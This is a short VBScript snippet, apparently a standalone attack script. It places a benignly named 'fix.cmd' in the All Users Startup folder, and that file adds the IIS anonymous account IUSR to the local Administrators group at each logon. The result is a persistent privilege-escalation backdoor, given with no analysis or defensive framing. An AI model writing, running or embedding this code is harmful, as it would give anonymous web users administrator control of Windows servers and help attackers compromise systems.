Set sh = CreateObject("WScript.Shell")
folder = sh.SpecialFolders("AllUsersStartup")
Set fso = CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile(fso.BuildPath(folder, "fix.cmd"), True)
f.WriteLine "net localgroup Administrators IUSR /add"
f.Close
